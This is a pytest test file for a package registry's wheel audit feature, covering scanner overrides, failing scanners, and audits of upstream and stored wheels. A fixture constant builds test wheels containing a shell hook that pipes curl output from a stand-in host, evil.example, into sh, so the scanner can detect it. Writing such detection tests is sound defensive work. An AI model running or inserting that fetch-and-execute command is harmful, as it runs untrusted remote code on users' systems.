"""The wheel audit use case driven directly: scanner overrides and failures, upstream and stored wheels.

The real safe unpacker and AST scanner do the work; small scanners written here show which ones ran and what they
were given, and wheels are stored by real uploads (on disk, in an object store, or under an opaque blob key).
"""

from __future__ import annotations

import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from pyregistry_application.metadata_backend import MetadataBackend
from pyregistry_application.ports import ArtifactStorage
from pyregistry_application.security.findings import Finding, Severity
from pyregistry_application.security.ports import Scanner, WheelFetcher
from pyregistry_application.security.wheel_scan import ScanWheel
from pyregistry_domain.errors import NotFound, ValidationFailed
from pyregistry_domain.projects import Release
from pyregistry_infrastructure.blob_storage.opendal_storage import OpenDalStorage
from pyregistry_infrastructure.scanning.ast_checks import AstScanner
from pyregistry_infrastructure.scanning.unpack import SafeWheelUnpacker
from tests.support.dists import build_wheel, sha256_of
from tests.unit.application.test_application_without_web import App

SHELL_HOOK = "import subprocess\nsubprocess.call('curl -s https://evil.example/x | sh', shell=True)\n"


class ManifestScanner:
    """Reports every unpacked file as an ``info`` finding, so a test sees what the scanner was given."""

    def __init__(self, name: str) -> None:
        self.name = name

    def scan(self, wheel: Path, unpacked: Path) -> list[Finding]:
        return [
            Finding(
                rule_id="MANIFEST",
                severity=Severity.INFO,
                file=path.relative_to(unpacked).as_posix(),
                message=f"in {wheel.name}",
                scanner=self.name,
            )
            for path in sorted(unpacked.rglob("*"))
            if path.is_file()
        ]


class BrokenScanner:
    """A scanner whose engine fails; ``message`` may be empty."""

    def __init__(self, name: str, message: str) -> None:
        self.name = name
        self._message = message

    def scan(self, wheel: Path, unpacked: Path) -> list[Finding]:
        raise RuntimeError(self._message)


class CopyingFetcher:
    """A ``WheelFetcher`` serving wheels from a local directory, like a tiny upstream index."""

    def __init__(self, root: Path) -> None:
        self._root = root

    def fetch(self, project: str, filename: str, target_dir: Path) -> Path:
        source = self._root / filename
        if not source.is_file():
            raise NotFound(f"{filename!r} is not a file of {project!r} upstream")
        return Path(shutil.copy(source, target_dir / filename))


def _audit(
    scanners: list[Scanner] | None = None,
    *,
    fetcher: WheelFetcher | None = None,
    store: MetadataBackend | None = None,
    storage: ArtifactStorage | None = None,
) -> ScanWheel:
    return ScanWheel(
        SafeWheelUnpacker(), scanners or [AstScanner()], fetcher, store.catalogue if store else None, storage
    )


def test_findings_are_merged_and_failing_scanners_are_reported(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "hook", "1.0", module_source=SHELL_HOOK)
    audit = _audit([AstScanner(), BrokenScanner("yara", "rules did not compile"), BrokenScanner("quiet", "")])
    report = audit.scan_file("hook", wheel)
    assert (report.project, report.filename, report.sha256) == ("hook", wheel.name, sha256_of(wheel))
    assert report.scanners == ["ast", "yara", "quiet"]
    assert report.scanner_errors == {"yara": "rules did not compile", "quiet": "RuntimeError"}
    assert "PY-SHELL-NETWORK" in {f.rule_id for f in report.findings}
    assert report.reaches(Severity.HIGH)


def test_overrides_replace_scanners_of_the_same_name_and_add_new_ones(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path, "hook", "1.0", module_source=SHELL_HOOK)
    report = _audit([AstScanner(), BrokenScanner("yara", "old rules")]).scan_file(
        "hook", wheel, overrides=[ManifestScanner("yara"), ManifestScanner("extra")]
    )
    assert report.scanners == ["ast", "yara", "extra"]
    assert report.scanner_errors == {}
    manifest = sorted((f.scanner, f.file) for f in report.findings if f.rule_id == "MANIFEST")
    assert ("extra", "hook/__init__.py") in manifest and ("yara", "hook-1.0.dist-info/RECORD") in manifest
    assert all(f.message == f"in {wheel.name}" for f in report.findings if f.rule_id == "MANIFEST")


def test_only_wheels_are_audited(tmp_path: Path) -> None:
    sdist = tmp_path / "hook-1.0.tar.gz"
    sdist.write_bytes(b"not looked at")
    with pytest.raises(ValidationFailed, match=r"'hook-1\.0\.tar\.gz' is not a wheel"):
        _audit().scan_file("hook", sdist)


def test_upstream_wheels_are_downloaded_then_audited(tmp_path: Path) -> None:
    wheel = build_wheel(tmp_path / "upstream", "hook", "1.0", module_source=SHELL_HOOK)
    with pytest.raises(ValidationFailed, match="no upstream index is configured"):
        _audit().scan_upstream("hook", wheel.name)
    audit = _audit(fetcher=CopyingFetcher(wheel.parent))
    report = audit.scan_upstream("hook", wheel.name)
    assert (report.filename, report.sha256) == (wheel.name, sha256_of(wheel))
    assert "PY-SHELL-NETWORK" in {f.rule_id for f in report.findings}
    with pytest.raises(NotFound, match="upstream"):
        audit.scan_upstream("hook", "hook-9.9-py3-none-any.whl")


@pytest.fixture
def app(tmp_path: Path) -> App:
    """Tenant ``acme`` holding hook 1.0 (a wheel with a shell hook)."""
    application = App(tmp_path)
    application.tenants.create_tenant(
        slug="acme", display_name="Acme", admin_email=None, admin_password=None, mirroring_enabled=False, actor="t"
    )
    secret = application.tokens.issue(tenant_slug="acme", name="ci", scopes=["publish"], actor="t").secret
    application.upload(
        "acme", secret, build_wheel(tmp_path / "dist", "hook", "1.0", module_source=SHELL_HOOK), "hook", "1.0"
    )
    return application


def _acme(app: App) -> str:
    tenant = app.store.tenants.get_tenant_by_slug("acme")
    assert tenant is not None
    return tenant.id


def test_stored_wheels_are_audited_from_disk_or_object_storage(app: App) -> None:
    tenant_id = _acme(app)
    [stored] = app.store.catalogue.list_files(tenant_id, "hook")
    on_disk = _audit(store=app.store, storage=app.storage).scan_stored(tenant_id, "Hook", stored.filename)
    remote = OpenDalStorage("memory", {})
    remote.put_bytes(stored.blob_key, app.storage.read_bytes(stored.blob_key))
    in_object_store = _audit(store=app.store, storage=remote).scan_stored(tenant_id, "hook", stored.filename)
    for report in (on_disk, in_object_store):
        assert (report.filename, report.sha256) == (stored.filename, stored.sha256)
        assert "PY-SHELL-NETWORK" in {f.rule_id for f in report.findings}


def test_a_stored_wheel_under_an_opaque_blob_key_keeps_its_file_name(app: App) -> None:
    tenant_id = _acme(app)
    [uploaded] = app.store.catalogue.list_files(tenant_id, "hook")
    opaque = replace(uploaded, filename="hook-2.0-py3-none-any.whl", version="2.0", blob_key="blobs/0f3a9c")
    app.storage.put_bytes(opaque.blob_key, app.storage.read_bytes(uploaded.blob_key))
    project = app.store.catalogue.get_project(tenant_id, "hook")
    assert project is not None
    app.store.catalogue.add_release_file(project, Release(tenant_id, "hook", "2.0", project.created_at), opaque)
    report = _audit([ManifestScanner("manifest")], store=app.store, storage=app.storage).scan_stored(
        tenant_id, "hook", opaque.filename
    )
    assert report.filename == "hook-2.0-py3-none-any.whl"
    assert {f.message for f in report.findings} == {"in hook-2.0-py3-none-any.whl"}


def test_stored_audits_need_the_store_and_an_existing_file_of_the_project(app: App) -> None:
    tenant_id = _acme(app)
    [stored] = app.store.catalogue.list_files(tenant_id, "hook")
    with pytest.raises(ValidationFailed, match="cannot be audited in this process"):
        _audit().scan_stored(tenant_id, "hook", stored.filename)
    audit = _audit(store=app.store, storage=app.storage)
    with pytest.raises(NotFound, match="not found in project 'other'"):
        audit.scan_stored(tenant_id, "other", stored.filename)
    with pytest.raises(NotFound):
        audit.scan_stored(tenant_id, "hook", "hook-9.9-py3-none-any.whl")
    with pytest.raises(NotFound):
        audit.scan_stored("another-tenant", "hook", stored.filename)
